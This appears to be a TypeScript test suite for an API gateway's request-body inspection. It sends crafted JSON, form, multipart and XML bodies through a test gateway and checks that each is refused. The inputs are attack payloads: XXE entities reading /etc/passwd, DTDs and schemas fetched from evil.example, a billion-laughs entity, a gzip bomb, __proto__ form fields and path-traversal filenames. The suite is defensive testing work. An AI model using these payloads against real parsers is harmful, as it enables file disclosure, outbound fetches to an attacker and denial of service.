// Content that two readers could take for different things: each way over real sockets through a real gateway; none of it reaches the provider
// (docs/inspection.md "What a request carries").
import assert from "node:assert/strict";
import { hash } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { gzipSync } from "node:zlib";
import type { PartRule } from "@sallyport/protocol/snapshot/body-rule.ts";
import { readForm } from "./inspect/form.ts";
import { refuseXml } from "./inspect/xml.ts";
import { type CountingUpstream, startCountingUpstream } from "./testing/counting-upstream.ts";
import { openTestLog } from "./testing/open-test-log.ts";
import { startTestGateway, type TestGateway } from "./testing/start-test-gateway.ts";
import { TestCaller } from "./testing/test-caller.ts";
import type { TestEstate, TestOperation } from "./testing/test-estate.ts";

const size = 64 * 1024;
const part = (name: string, types: readonly string[], more: Partial<PartRule> = {}): PartRule => ({
  ...{ name, types, bytesMax: 1024, required: false, most: 1 },
  ...more,
});
const member = {
  type: "object",
  required: ["amount"],
  properties: { amount: { type: "integer", maximum: 100 }, tag: { type: "array", items: { type: "string" } } },
};
const bodies: Readonly<Record<string, TestOperation["body"]>> = {
  json: { content: "json", contentType: "application/json", schema: member },
  form: {
    content: "form",
    contentType: "application/x-www-form-urlencoded",
    schema: member,
    fields: [
      { name: "amount", type: "integer" },
      { name: "tag", type: "string", list: true },
    ],
  },
  multipart: {
    content: "multipart",
    contentType: "multipart/form-data",
    parts: [
      part("note", []),
      part("scan", ["application/pdf", "image/png"], { required: true, most: 2 }),
      part("meta", ["application/json"]),
    ],
  },
  xml: { content: "xml", contentType: "application/xml" },
  zipped: { content: "json", contentType: "application/json", schema: member, encoding: "gzip" },
  opaque: { content: "opaque", contentType: "application/pdf" },
};

function estate(url: string): TestEstate {
  const operations = Object.entries(bodies).map(
    ([name, body]): TestOperation => ({
      name,
      method: "POST",
      path: `/${name}`,
      ...(body === undefined ? {} : { body }),
    }),
  );
  const observed = { mode: { mode: "observe", untilMs: 4e12, reason: "a test" } } as const;
  return {
    systems: [
      { id: "billing", url, operations },
      { id: "watched", url, operations, changes: observed },
      { id: "orders", clients: ["orders"] },
    ],
    integrations: ["billing", "watched"].map((to) => ({
      id: `orders-to-${to}`,
      from: "orders",
      to,
      operations: Object.keys(bodies).map((name) => ({ name })),
    })),
  };
}

let upstream: CountingUpstream;
let bed: TestGateway;
let caller: TestCaller;
let url = "";
before(async () => {
  upstream = await startCountingUpstream();
  bed = await startTestGateway({ estate: estate(upstream.url), openLog: openTestLog });
  url = bed.addresses[0]?.url ?? "";
  caller = new TestCaller(bed.feed, "orders");
  await caller.learnNonce(`${url}/billing`);
});
after(async () => {
  await bed?.close();
  await upstream?.close();
});

interface Sent {
  readonly to: string;
  readonly type: string | string[];
  readonly body: string | Buffer;
  readonly headers?: Readonly<Record<string, string | string[]>>;
  readonly system?: string;
}

async function send({ to, type, body, headers, system = "billing" }: Sent) {
  const before = upstream.seen.length;
  const answer = await caller.send(`${url}/${system}/${to}`, {
    method: "POST",
    headers: { "content-type": type, ...headers },
    body,
  });
  return { answer, reached: upstream.seen.slice(before) };
}

async function passes(sent: Sent): Promise<void> {
  const { answer, reached } = await send(sent);
  assert.deepEqual([answer.status, reached.length], [200, 1], `${String(sent.body).slice(0, 200)}: ${answer.text}`);
  assert.equal(reached[0]?.body, String(sent.body), "the bytes checked are the bytes sent");
}

async function refused(code: string, sent: Sent, why = /./): Promise<void> {
  const { answer, reached } = await send(sent);
  assert.deepEqual([answer.code, reached.length], [code, 0], `${String(sent.body).slice(0, 200)}: ${answer.text}`);
  assert.match(answer.text, why);
  const [leaf] = await bed.leaves(answer.id);
  assert.ok(leaf?.t === "crossing" && leaf.code === code);
}

const json = "application/json";
const form = "application/x-www-form-urlencoded";
const xml = "application/xml";
const ok = '{"amount":1}';

/** Processor time, the least of three: what else the machine does is in none of them. */
function leastMsOf(work: () => void): number {
  const times = [1, 2, 3].map(() => {
    const before = process.cpuUsage();
    work();
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1_000;
  });
  return Math.min(...times);
}

describe("content types", () => {
  test("what is declared passes, as the bytes it came as", async () => {
    await passes({ to: "json", type: json, body: ok });
    await passes({ to: "json", type: "application/json; charset=utf-8", body: ok });
    await passes({ to: "form", type: form, body: "amount=100&tag=a+b&tag=%C3%A9&note=x%3Dy" });
    await passes({
      to: "xml",
      type: xml,
      body: '<?xml version="1.0" encoding="UTF-8"?>\n<a xmlns="urn:a" xmlns:b="urn:b" b:c="1 &amp; &#x41;"><!-- c --><b:d/><![CDATA[<x>]]></a>\n',
    });
    await passes({ to: "opaque", type: "application/pdf", body: "%PDF-1.7" });
    await passes({
      to: "multipart",
      type: "multipart/form-data; boundary=b",
      body: whole([filePart("scan"), '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\nhällo']),
    });
  });

  test("attack: one type said, another meant", async () => {
    for (const type of [
      "application/json; application/xml",
      "application/json, application/xml",
      "application/json;charset=utf-7",
      "application/json;charset=utf-16",
      'application/json; charset="utf-16le"',
      "application/json; profile=x",
      "application/json;",
      "application/xml",
      "text/plain",
      "text/json",
      "application/x-www-form-urlencoded",
      "application/jsonx",
      "application/json\t;charset=utf-16",
    ]) {
      const { answer, reached } = await send({ to: "json", type, body: ok });
      assert.ok(["content-type", "bad-header"].includes(answer.code ?? ""), `${type}: ${answer.text}`);
      assert.equal(reached.length, 0);
    }
    const { answer, reached } = await send({ to: "json", type: ["application/json", "application/xml"], body: ok });
    assert.deepEqual([answer.status, reached.length], [400, 0], answer.text);
    await refused("content-type", { to: "form", type: json, body: ok });
    await refused("content-type", { to: "xml", type: "text/xml", body: "<a/>" });
    await refused("content-type", { to: "xml", type: "application/xml; charset=iso-8859-1", body: "<a/>" });
  });

  test("attack: other characters than UTF-8", async () => {
    for (const bytes of [
      Buffer.from(ok, "utf16le"),
      Buffer.from(`\ufeff${ok}`, "utf16le"),
      Buffer.from(`\ufeff${ok}`),
      Buffer.from("+AHsAIg-amount+ACIAOg-1+AH0-"),
      Buffer.from('{"amount":1,"x":"\xff"}', "latin1"),
      Buffer.from('{"amount":1,"x":"\xc0\xaf"}', "latin1"),
    ])
      await refused("body-malformed", { to: "json", type: json, body: bytes });
    for (const bytes of [
      Buffer.from("<a/>", "utf16le"),
      Buffer.from("\ufeff<a/>", "utf16le"),
      Buffer.from("\ufeff<a/>"),
      Buffer.from("<a>\xe9</a>", "latin1"),
      Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'),
    ])
      await refused("body-malformed", { to: "xml", type: xml, body: bytes });
  });

  test("attack: a coding that was not declared, one under another, or a bomb", async () => {
    const gzip = { "content-encoding": "gzip" };
    for (const to of ["json", "form", "xml", "opaque"]) {
      const type = String(bodies[to]?.contentType);
      for (const coding of ["gzip", "deflate", "br", "identity, gzip", "x-gzip"])
        await refused("content-type", { to, type, body: gzipSync(ok), headers: { "content-encoding": coding } });
    }
    for (const coding of ["gzip, gzip", "br", "deflate", "gzip,identity"])
      await refused("content-type", {
        to: "zipped",
        type: json,
        body: gzipSync(ok),
        headers: { "content-encoding": coding },
      });
    await refused("body-malformed", { to: "zipped", type: json, body: ok, headers: gzip }, /not gzip/);
    await refused("body-too-large", {
      to: "zipped",
      type: json,
      body: gzipSync(Buffer.alloc(64 * 1024 * 1024, " ")),
      headers: gzip,
    });
    await refused("schema-mismatch", { to: "zipped", type: json, body: gzipSync('{"amount":101}'), headers: gzip });
    const { answer, reached } = await send({ to: "zipped", type: json, body: gzipSync(ok), headers: gzip });
    assert.equal(answer.status, 200, answer.text);
    assert.deepEqual(
      [reached[0]?.body, reached[0]?.headers["content-encoding"], reached[0]?.headers["content-length"]],
      [ok, undefined, String(ok.length)],
      "what was unfolded here goes on unfolded",
    );
    const digest = `sha-256=:${hash("sha256", gzipSync(ok), "base64")}:`;
    const said = { ...gzip, "content-digest": digest, "repr-digest": digest };
    const unfolded = await send({ to: "zipped", type: json, body: gzipSync(ok), headers: said });
    const { "content-digest": ofContent, "repr-digest": ofWhole } = unfolded.reached[0]?.headers ?? {};
    assert.deepEqual(
      [unfolded.answer.status, ofContent, ofWhole],
      [200, undefined, undefined],
      "a digest of other octets",
    );
  });

  test("where nothing is enforced, what cannot be unfolded goes on as it came", async () => {
    const { answer, reached } = await send({
      to: "zipped",
      type: json,
      body: "no gzip",
      headers: { "content-encoding": "gzip" },
      system: "watched",
    });
    assert.deepEqual(
      [answer.status, reached[0]?.body, reached[0]?.headers["content-encoding"]],
      [200, "no gzip", "gzip"],
      answer.text,
    );
  });
});

describe("forms", () => {
  test("attack: a member twice, under another name, or hidden from one of two readers", async () => {
    for (const body of [
      "amount=1&amount=1000",
      "amount=1&AMOUNT=1000",
      "amount=1&amount%5B%5D=1000",
      "amount[]=1000&amount=1",
      "amount=1&%61mount=1000",
      "amount=1&+amount=1000",
      "amount=1&a;amount=1000",
      "amount=1&x=1&x=2",
      "amount=1&&x=1",
      "amount=1&",
      "&amount=1",
      "amount",
      "=1&amount=1",
      "amount=1&x=%",
      "amount=1&x=%f",
      "amount=1&x=%ff",
      "amount=1&x=%C0%AF",
      "amount=1&x=a\r\nb",
      "amount=1&x=a b",
      "amount=1&__proto__=1",
      "amount=1&a%00b=1",
      "amount=1&x=\xe9",
      "amount=+1",
      "amount=0x1",
      "amount=1.0",
    ])
      await refused("body-malformed", { to: "form", type: form, body: Buffer.from(body, "latin1") });
    await refused("schema-mismatch", { to: "form", type: form, body: "amount=101" });
    await refused("schema-mismatch", { to: "form", type: form, body: "tag=1" });
    await refused(
      "body-malformed",
      { to: "form", type: form, body: `amount=1&${Array.from({ length: 600 }, (_, n) => `a${n}=1`).join("&")}` },
      /more than 512/,
    );
  });

  test("attack: many long names cost no more where many members are declared", () => {
    const sent = Buffer.from(Array.from({ length: 512 }, (_, n) => `${"%C4%B0".repeat(120)}${n}=1`).join("&"));
    const members = (count: number) =>
      Array.from({ length: count }, (_, n) => ({ name: `m${n}`, type: "string" }) as const);
    const least = (count: number) => leastMsOf(() => assert.equal(readForm(sent, members(count)).ok, true));
    // Folded anew for each of them, they cost thirty times as much.
    assert.ok(least(200) < 6 * least(1));
  });
});

const filePart = (
  name: string,
  more = "",
  filename = "a.pdf",
  content = "%PDF-1.7 x",
  type = "application/pdf",
): string =>
  `--b\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: ${type}\r\n${more}\r\n${content}`;
const whole = (parts: readonly string[]): string => `${parts.join("\r\n")}\r\n--b--\r\n`;

describe("multipart", () => {
  const type = "multipart/form-data; boundary=b";
  const bad = (body: string, why = /./, said = type) =>
    refused("body-malformed", { to: "multipart", type: said, body }, why);

  test("attack: boundaries that two readers see in different places", async () => {
    const good = whole([filePart("scan")]);
    for (const said of [
      "multipart/form-data",
      "multipart/form-data; boundary=",
      "multipart/form-data; boundary=b; boundary=c",
      "multipart/form-data; boundary=b; charset=utf-16",
      'multipart/form-data; boundary="b "',
      "multipart/mixed; boundary=b",
      `multipart/form-data; boundary=${"b".repeat(71)}`,
      "multipart/form-data; boundary=b;",
      "multipart/form-data;boundary*=utf-8''b",
    ])
      await refused("content-type", { to: "multipart", type: said, body: good });
    await bad(`preamble\r\n${good}`, /begin/);
    await bad(`\r\n${good}`, /begin/);
    await bad(`${good}epilogue`, /behind/);
    await bad(`${good}--b\r\n`, /behind/);
    await bad(good.replace("\r\n--b--", "\n--b--"), /end/);
    await bad(good.replaceAll("\r\n", "\n"));
    await bad(good.replace("--b\r\n", "--b \r\n"), /begins like a boundary/);
    await bad(whole([filePart("scan", "", "a.pdf", "%PDF-\r\n--bc\r\n")]), /begins like a boundary/);
    await bad(`${filePart("scan")}\r\n--b`);
    await bad(`${filePart("scan")}\r\n--b-`);
    await bad("--b--\r\n", /scan is missing/);
  });

  test("attack: names, files and fields of parts that are read in two ways", async () => {
    for (const filename of [
      "../a.pdf",
      "..",
      "a/b.pdf",
      "a\\\\b.pdf",
      "C:a.pdf",
      "a.pdf:x",
      ".htaccess",
      "a.pdf.",
      "a.pdf ",
      " a.pdf",
      "",
      "a%2fb",
      "a%00.pdf",
      "a%0d%0ab",
      "a\0.pdf",
      "%2e%2e",
      "a|b",
      "a<b",
      `${"a".repeat(256)}`,
    ])
      await bad(whole([filePart("scan", "", filename)]), /Content-Disposition|another field/);
    for (const head of [
      'form-data; name="scan"; filename="a.pdf"; filename="b.php"',
      "form-data; name=\"scan\"; filename*=utf-8''b.php",
      'form-data; name="scan"; filename="a.pdf"; filename*=utf-8\'\'b.php',
      'form-data; name="scan"; name="note"; filename="a.pdf"',
      'form-data; NAME="scan"',
      "form-data; name=scan",
      'attachment; name="scan"',
      'form-data; filename="a.pdf"; name="scan"',
      'form-data; name="sc\\"an"',
      'form-data; name=""',
      "form-data",
    ])
      await bad(
        whole([`--b\r\nContent-Disposition: ${head}\r\nContent-Type: application/pdf\r\n\r\n%PDF-`]),
        /Content-Disposition/,
      );
    for (const more of [
      "Content-Transfer-Encoding: base64\r\n",
      "Content-Encoding: gzip\r\n",
      "Content-Length: 1\r\n",
      "X-Other: 1\r\n",
      "Content-Type: image/png\r\n",
      " folded\r\n",
      "Content-Type : image/png\r\n",
    ])
      await bad(whole([filePart("scan", more)]), /field/);
    await bad(whole([filePart("scan"), filePart("other")]), /not declared/);
    await bad(whole([filePart("scan"), filePart("SCAN")]), /not declared/);
    await bad(whole([filePart("scan"), filePart("scan"), filePart("scan")]), /more than 2 times/);
    await bad(whole([filePart("note"), filePart("scan")]), /note is a text, and not a file/);
  });

  test("attack: content of another type than is said, nested, or past its bound", async () => {
    await bad(whole([filePart("scan", "", "a.pdf", "<script>", "application/pdf")]), /does not begin as/);
    await bad(whole([filePart("scan", "", "a.png", "GIF89a", "image/png")]), /does not begin as/);
    await bad(whole([filePart("scan", "", "a.html", "<p>", "text/html")]), /not declared/);
    await bad(
      whole([filePart("scan", "", "a.pdf", "--c\r\n\r\nx\r\n--c--", "multipart/mixed; boundary=c")]),
      /not declared/,
    );
    await bad(whole([filePart("scan", "", "a.pdf", "%PDF-", "application/pdf; boundary=c")]), /not declared/);
    await bad(whole([filePart("scan", "", "a.pdf", `%PDF-${"x".repeat(1024)}`)]), /larger than 1024/);
    await bad(
      whole([filePart("scan"), filePart("meta", "", "m.json", '{"a":1,"a":2}', "application/json")]),
      /no strict JSON/,
    );
    await bad(
      whole([filePart("scan"), '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\na\0b']),
      /no UTF-8 text/,
    );
    await bad(
      whole([
        filePart("scan"),
        '--b\r\nContent-Disposition: form-data; name="note"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\na',
      ]),
      /another type/,
    );
    await bad(
      whole(Array.from({ length: 200 }, () => '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n')),
      /more than 128 parts/,
    );
    await bad(whole([`--b\r\nContent-Disposition: form-data; name="${"n".repeat(2_000)}"\r\n\r\n`]), /short head/);
    await refused("body-too-large", {
      to: "multipart",
      type,
      body: whole([filePart("scan", "", "a.pdf", "x".repeat(2 * size))]),
    });
  });
});

describe("XML", () => {
  const bad = (body: string, why: RegExp) => refused("body-malformed", { to: "xml", type: xml, body }, why);

  test("attack: entities, document types, inclusion and places to fetch from", async () => {
    for (const body of [
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
      "<!doctype a><a/>",
      '<a><!ENTITY x "y"></a>',
      '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>',
    ])
      await bad(body, /document type/);
    for (const reference of [
      "&x;",
      "&nbsp;",
      "&",
      "&amp",
      "&#x110000;",
      "&#0;",
      "&#xD800;",
      "&#1234567890;",
      "&AMP;",
    ]) {
      await bad(`<a>${reference}</a>`, /reference/);
      await bad(`<a b="${reference}"/>`, /plain value/);
    }
    for (const body of [
      '<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
      "<a><?php echo 1 ?></a>",
      '<a/><?xml version="1.0"?>',
      '<?xml version="1.1"?><a/>',
      ' <?xml version="1.0"?><a/>',
      '<?xml version="1.0" encoding="UTF-16"?><a/>',
      '<?xml version="1.0" encoding="utf-7"?><a/>',
    ])
      await bad(body, /processing instruction/);
    await bad('<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd"/></a>', /inclusion/);
    await bad(
      '<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:a http://evil.example/a.xsd"/>',
      /fetch a schema/,
    );
    await bad(
      '<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="http://evil.example/a.xsd"/>',
      /fetch a schema/,
    );
  });

  test("attack: namespaces and names that two readers resolve differently", async () => {
    await bad("<x:a/>", /prefix without/);
    await bad('<a xmlns:x="urn:x"><b x:c="1" y:c="2"/></a>', /prefix without/);
    await bad('<a xmlns:x="urn:x" xmlns:y="urn:x" x:c="1" y:c="2"/>', /twice, under two prefixes/);
    await bad('<a xmlns:x="urn:x"/><x:b/>', /second element/);
    await bad('<a><b xmlns:x="urn:x"/><x:c/></a>', /prefix without/);
    await bad('<a xmlns:x=""/>', /prefix that cannot/);
    await bad('<a xmlns:xmlns="urn:x"/>', /prefix that cannot|namespace that cannot/);
    await bad('<a xmlns:xml="urn:x"/>', /namespace that cannot/);
    await bad('<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>', /namespace that cannot/);
    await bad('<a xmlns:x="urn:&#120;"/>', /namespace that cannot/);
    await bad('<a b="1" b="2"/>', /twice/);
  });

  test("attack: a document that is none, or past its bounds", async () => {
    for (const body of [
      "",
      "x",
      "<a>",
      "<a></b>",
      "</a>",
      "<a/><b/>",
      "<a/>x",
      "<a b=c/>",
      "<a b/>",
      '<a b="<"/>',
      "<a>]]></a>",
      "<a><!-- -- --></a>",
      "<a><![CDATA[</a>",
      "<![CDATA[x]]><a/>",
      "<a\0/>",
      "<a>\u0001</a>",
      "<a>\ufffe</a>",
      "< a/>",
      "<a / >",
      "<1/>",
      "<a:b:c/>",
      "<a b='1'c='2'/>",
    ]) {
      if (body === "") continue;
      await refused("body-malformed", { to: "xml", type: xml, body });
    }
    await bad(`${"<a>".repeat(65)}${"</a>".repeat(65)}`, /too deep/);
    await bad(`<a ${Array.from({ length: 65 }, (_, n) => `b${n}="1"`).join(" ")}/>`, /more than 64 attributes/);
    await bad(`<${"a".repeat(300)}/>`, /without a name/);
  });

  test("attack: thousands of prefixes around thousands of elements cost no more than the octets they are made of", () => {
    const leaves = '<b xmlns:q="c"/>'.repeat(19_000);
    const open = (level: number) => `<a ${Array.from({ length: 64 }, (_, n) => `xmlns:p${level}x${n}="u"`).join(" ")}>`;
    const nested = `${Array.from({ length: 60 }, (_, n) => open(n)).join("")}${leaves}${"</a>".repeat(60)}`;
    // Of two that cost the same the nested one took a hundred times as long.
    const least = (document: string) => leastMsOf(() => assert.equal(refuseXml(Buffer.from(document)), null));
    assert.ok(least(nested) < 5 * least(`<a>${leaves}</a>`));
  });

  test("a prefix means what the innermost element says, and behind its end what it meant before", async () => {
    await passes({ to: "xml", type: xml, body: '<a xmlns:x="urn:1"><b xmlns:x="urn:2"><x:c/></b><x:c/></a>' });
    await bad('<a><b xmlns:x="urn:2"><c/></b><x:c/></a>', /prefix without/);
    await bad(
      '<a xmlns:y="urn:1" xmlns:x="urn:2"><b xmlns:x="urn:1"/><b xmlns:x="urn:1" x:c="1" y:c="2"/></a>',
      /twice/,
    );
  });
});
